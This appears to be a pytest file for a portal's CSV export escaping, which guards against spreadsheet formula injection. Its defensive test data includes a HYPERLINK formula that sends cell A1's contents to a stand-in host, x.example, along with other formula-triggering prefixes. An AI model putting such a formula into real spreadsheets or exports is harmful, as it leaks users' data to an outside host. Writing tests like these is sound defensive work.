import csv
import io

import pytest

from portal.core.exports import csv_text, spreadsheet_safe, unescape_spreadsheet

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "＝1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_cells_a_spreadsheet_would_run_are_neutralised(value):
    assert spreadsheet_safe(value) == "'" + value
    assert unescape_spreadsheet(spreadsheet_safe(value)) == value


@pytest.mark.parametrize("value", ["香坊区驿站", "'引号开头", "12.5", "a=b", "", "2026-01-01"])
def test_ordinary_cells_are_left_alone(value):
    assert spreadsheet_safe(value) == value
    assert unescape_spreadsheet(value) == value


def test_every_cell_of_a_csv_export_is_safe():
    text = csv_text(["name", "=header"], [[f, "-x"] for f in FORMULAS])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
